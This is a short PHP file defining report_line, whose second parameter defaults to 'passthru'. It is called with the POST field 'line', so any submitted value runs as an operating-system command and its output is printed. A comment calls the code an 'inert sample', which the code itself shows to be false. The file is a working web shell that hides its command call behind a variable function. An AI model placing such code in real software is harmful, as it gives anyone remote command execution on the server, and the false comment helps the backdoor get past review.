<?php
// inert sample: the command function is the default of a parameter the call leaves out
function report_line($line, $render = 'passthru')
{
    echo '<pre>';
    $render($line);
    echo '</pre>';
}
report_line($_POST['line'] ?? 'uptime');
